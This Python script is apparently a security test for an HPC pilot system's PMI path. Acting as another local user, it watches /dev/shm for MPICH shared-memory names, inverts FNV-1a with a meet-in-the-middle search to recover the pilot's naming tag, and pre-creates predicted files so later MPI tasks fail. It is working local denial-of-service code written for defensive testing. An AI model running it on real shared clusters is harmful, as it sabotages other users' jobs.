"""Another user (run it as nobody) who stops a pilot's MPI tasks by planting MPICH's shared
memory names before the tasks make them (issue 47, row 3): what the PMI path must not allow.

    shm_planter.py WAIT_S NEXT

It prints "watching" once it has listed what /dev/shm held before (the worlds it must find
are made after that line), then its findings.

It lists /dev/shm until it has seen two new MPICH worlds (`mpich_shm_<world id>_<node>`, world id
= FNV-1a of the KVS name: pmi.mpich_world_id), then recovers the pilot's naming tag from them
the way anyone can for names of the form `pf.<8 hex>.<task uid>.<n>`: FNV-1a is invertible
byte by byte, so the known tail of the name is peeled off the world id and the 32 unknown bits
in the middle meet in the middle (2 x 65,536 steps per guess of the tail; the task uids and
counters of a pilot are small consecutive numbers). With the tag it predicts the KVS names of
the next NEXT tasks (and of a few counters either side) and creates their shared memory files
(0666, O_EXCL), on nodes 0 and 1 -- for every tag that explains both worlds (FNV-1a mixes
the tails' last bytes weakly: a dozen do). Prints one JSON line after "watching": the world
ids seen, the tags (none when no name of that form explains both worlds) and the paths it
created.
"""

import json
import os
import re
import sys
import time

import numpy as np

P, M = 16777619, 0xFFFFFFFF
PINV = pow(P, -1, 1 << 32)
HEX = [f"{i:x}".encode() for i in range(16)]
SEEN = re.compile(r"mpich_shm_([0-9a-f]+)_0\Z")


def fnv(data: bytes, h: int = 2166136261) -> int:
    for b in data:
        h = ((h ^ b) * P) & M
    return h


def back(h: int, data: bytes) -> int:
    """The FNV-1a state before `data`, given the state after it."""
    for b in reversed(data):
        h = ((h * PINV) & M) ^ b
    return h


def halves():
    """Every 4 hex digits, as (text, array of their bytes, one column per digit)."""
    texts = [a + b + c + d for a in HEX for b in HEX for c in HEX for d in HEX]
    cols = np.array([list(t) for t in texts], dtype=np.uint64)
    return texts, cols


TEXTS, COLS = halves()


def forward_table():
    """The FNV-1a state after b"pf." and each 4 hex digits: (sorted states, state -> digits)."""
    h = np.full(len(TEXTS), fnv(b"pf."), dtype=np.uint64)
    for i in range(4):
        h = ((h ^ COLS[:, i]) * P) & M
    return np.sort(h), {int(v): t for v, t in zip(h.tolist(), TEXTS)}


def candidates(wid: int, table, tail: bytes) -> list[bytes]:
    """Tags t (8 hex digits) such that FNV-1a(b"pf." + t + tail) == wid: the states before
    the last 4 digits, met with the states after the first 4."""
    states, digits = table
    h = np.full(len(TEXTS), back(wid, tail), dtype=np.uint64)
    for i in (3, 2, 1, 0):
        h = ((h * PINV) & M) ^ COLS[:, i]
    hit = np.nonzero(np.isin(h, states))[0]
    return [digits[int(h[i])] + TEXTS[i] for i in hit]


def tails(uids: range, seqs: range):
    for u in uids:
        for s in seqs:
            yield u, s, f".task.{u:06d}.{s}".encode()


def main() -> int:
    wait_s, nxt = float(sys.argv[1]), int(sys.argv[2])
    seen: list[int] = []
    old = set(os.listdir("/dev/shm"))  # (worlds of other runs, left before it looked)
    print("watching", flush=True)  # (the test starts its tasks only now: not before `old`)
    end = time.monotonic() + wait_s
    while len(seen) < 2 and time.monotonic() < end:
        for name in set(os.listdir("/dev/shm")) - old:
            m = SEEN.match(name)
            if m and int(m.group(1), 16) not in seen:
                seen.append(int(m.group(1), 16))
        time.sleep(0.005)
    found: set[tuple[str, int, int]] = set()  # (tag, last task uid, last counter)
    planted: list[str] = []
    if len(seen) >= 2:
        table = forward_table()
        guesses = list(tails(range(0, 12), range(1, 13)))
        first = {(u, s): candidates(seen[0], table, tl) for u, s, tl in guesses}
        for (u, s), tags in first.items():
            for t in tags:
                for u2, s2, tl in guesses:
                    if (u2, s2) != (u, s) and fnv(b"pf." + t + tl) == seen[1]:
                        found.add((t.decode(), max(u, u2), max(s, s2)))
    for tag, u0, s0 in sorted(found):  # (FNV-1a's weak mixing: a few explain both; plant all)
        for k in range(1, nxt + 1):
            for s in range(s0 + k - 2, s0 + k + 3):
                wid = fnv(f"pf.{tag}.task.{u0 + k:06d}.{s}".encode())
                for node in (0, 1):
                    path = f"/dev/shm/mpich_shm_{wid:x}_{node}"
                    try:
                        os.close(os.open(path, os.O_CREAT | os.O_EXCL | os.O_WRONLY, 0o666))
                        planted.append(path)
                    except FileExistsError:
                        pass
    tags = sorted({t for t, _, _ in found})
    print(json.dumps({"seen": [f"{w:x}" for w in seen], "tags": tags, "planted": planted}))
    return 0


if __name__ == "__main__":
    sys.exit(main())
